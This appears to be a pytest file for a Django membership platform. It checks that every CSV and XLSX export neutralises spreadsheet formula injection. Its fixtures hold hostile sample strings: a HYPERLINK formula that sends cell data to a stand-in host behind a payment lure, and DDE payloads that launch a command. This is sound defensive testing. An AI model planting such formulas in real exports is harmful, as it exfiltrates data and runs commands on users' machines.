"""Formula injection (issue 16, point 9): no CSV or XLSX export of the platform can carry a
live spreadsheet formula, whatever text users typed; numbers stay numbers.

Every export URL of the project is listed here (``EXPORTS``); ``test_every_writer_is_listed``
fails when a module starts writing CSV or XLSX some other way than through core.exports.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal, InvalidOperation
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from akkopsi.core.exports import export_table

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Klik untuk melunasi")'
PLUS = "+62-811-1234-cmd"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
HOSTILE = [HYPERLINK, PLUS, MINUS, AT, TAB, CR]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list, kept apart from the code under test


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS)


def _cells(response: Any, fmt: str) -> list[Any]:
    """Every cell of the export: openpyxl cells (XLSX) or strings (CSV)."""
    assert response.status_code == 200, response.content[:300]
    if fmt == "xlsx":
        wb = load_workbook(io.BytesIO(response.content))
        return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    text = response.content.decode("utf-8-sig")
    return [value for row in csv.reader(io.StringIO(text, newline="")) for value in row]


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def _assert_neutralised(cells: list[Any], fmt: str) -> set[str]:
    """No cell is a formula; returns the formula-like texts found (as the user typed them)."""
    found = set()
    for cell in cells:
        if fmt == "xlsx":
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            if is_formula_like(cell.value):
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                found.add(cell.value)
        else:
            if cell.startswith(TRIGGERS):
                assert _is_number(cell), f"CSV cell {cell!r} would be read as a formula"
            if cell.startswith("'") and is_formula_like(cell[1:]):
                found.add(cell[1:])
    return found


def test_export_table_neutralises_text_and_keeps_numbers() -> None:
    rows = [[text, Decimal("-1500000.50"), -3, date(2015, 5, 19)] for text in HOSTILE]
    header = ["=Keterangan", "Jumlah", "Selisih", "Tanggal"]
    xlsx = _cells(export_table("uji", header, rows, "xlsx"), "xlsx")
    # XML turns a carriage return into a line feed: "\r=1+1" comes back as text "\n=1+1".
    assert _assert_neutralised(xlsx, "xlsx") == {*HOSTILE, "=Keterangan"} - {CR}
    numbers = [c for c in xlsx if c.column in (2, 3) and c.row > 1]
    assert {c.value for c in numbers} == {Decimal("-1500000.5"), -3}
    assert all(c.data_type == "n" and not c.quotePrefix for c in numbers)
    text = export_table("uji", header, rows, "csv").content.decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert [r[0] for r in parsed] == ["'=Keterangan", *["'" + h for h in HOSTILE]]
    assert {r[1] for r in parsed[1:]} == {"-1500000.50"} and {r[2] for r in parsed[1:]} == {"-3"}


@pytest.fixture
def hostile(users: Any, members: Any, regions: Any) -> dict[str, Any]:
    """Hostile text in every kind of field an export shows: province name, membership
    number, indicator unit and name, one-off invoice description, plan."""
    from akkopsi.data.models import Indicator
    from akkopsi.dues import services as dues
    from akkopsi.members.models import Member
    from akkopsi.planning import services as planning
    from akkopsi.planning.tests.conftest import make_plan
    from akkopsi.regions.models import Province

    Province.objects.filter(code="64").update(name=HYPERLINK)
    Province.objects.filter(code="51").update(name=TAB)
    Member.objects.filter(pk=members["6471"].pk).update(membership_number=MINUS)
    Member.objects.filter(pk=members["6474"].pk).update(membership_number=PLUS)
    Indicator.objects.filter(code="akses_layak").update(unit=AT)
    Indicator.objects.filter(code="babs").update(name_id=CR)
    dues.create_invoice(
        member=members["6474"],
        description=HYPERLINK,
        amount=Decimal("750000"),
        due_on=date(2015, 6, 30),
        issued_on=date(2015, 5, 1),
        by=users["treasurer"],
    )
    plan = make_plan(members["6471"])
    saved = planning.solve_scenario(scenario=plan.scenarios.get(), by=None)
    return {"saved": saved}


#: Every CSV/XLSX export: (name, URL maker, formats, texts it must show neutralised).
EXPORTS: list[tuple[str, Any, tuple[str, ...], set[str]]] = [
    ("members", lambda h: reverse("members:member_list"), ("csv", "xlsx"), {HYPERLINK, PLUS}),
    ("rapor league", lambda h: reverse("rapor:league"), ("csv", "xlsx"), {HYPERLINK}),
    ("dues by year", lambda h: reverse("dues:dashboard"), ("csv", "xlsx"), set()),
    ("dues arrears", lambda h: reverse("dues:arrears"), ("csv", "xlsx"), {HYPERLINK}),
    ("dues invoices", lambda h: reverse("dues:invoice_list"), ("csv", "xlsx"), {HYPERLINK}),
    (
        "dues statement",
        lambda h: reverse("dues:member_statement", args=["6474"]),
        ("csv", "xlsx"),
        {HYPERLINK},
    ),
    ("data national", lambda h: reverse("data:national"), ("csv", "xlsx"), {AT}),
    ("data province", lambda h: reverse("data:province", args=["64"]), ("csv", "xlsx"), set()),
    ("data member", lambda h: reverse("data:member_data", args=["6474"]), ("csv", "xlsx"), {AT}),
    ("planning roll-up", lambda h: reverse("planning:home"), ("csv", "xlsx"), {HYPERLINK}),
    (
        "planning program",
        lambda h: reverse("planning:result_detail", args=[h["saved"].pk]),
        ("xlsx",),
        set(),
    ),
    ("data template", lambda h: reverse("data:template"), ("xlsx",), {AT}),
]
CASES = [
    pytest.param(url, fmt, expected, id=f"{name}-{fmt}")
    for name, url, formats, expected in EXPORTS
    for fmt in formats
]


@pytest.mark.parametrize(("url", "fmt", "expected"), CASES)
def test_every_export_neutralises_formulas(
    client: Any, users: Any, hostile: dict[str, Any], url: Any, fmt: str, expected: set[str]
) -> None:
    client.force_login(users["admin"])
    path = url(hostile)
    query = {"export": fmt} if not path.endswith("/templat/") else {}
    found = _assert_neutralised(_cells(client.get(path, query), fmt), fmt)
    assert expected <= found, f"hostile text missing from the export: {expected - found}"


def test_every_writer_is_listed() -> None:
    """Only core.exports writes CSV/XLSX cells; data.workbook writes through its append_row."""
    root = Path(__file__).resolve().parents[2]
    writers = set()
    for path in root.rglob("*.py"):
        rel = path.relative_to(root).as_posix()
        if "/tests/" in rel or rel.startswith(("engines/", "demo/")) or "/management/" in rel:
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)|Workbook\(", source):
            writers.add(rel)
        if rel != "core/exports.py":
            assert not re.search(r"\bws\.append\(|\.cell\(.*value=", source), rel
    assert writers == {"core/exports.py", "data/workbook.py"}
    views = {
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if "/tests/" not in path.as_posix() and "export_table(" in path.read_text(encoding="utf-8")
    }
    assert views == {
        "core/exports.py",
        "core/viewkit.py",  # every FilteredListView with an export_name
        "dues/exports.py",
        "data/dashboards.py",
        "planning/views.py",
    }, "a new export: add its URL to EXPORTS above"
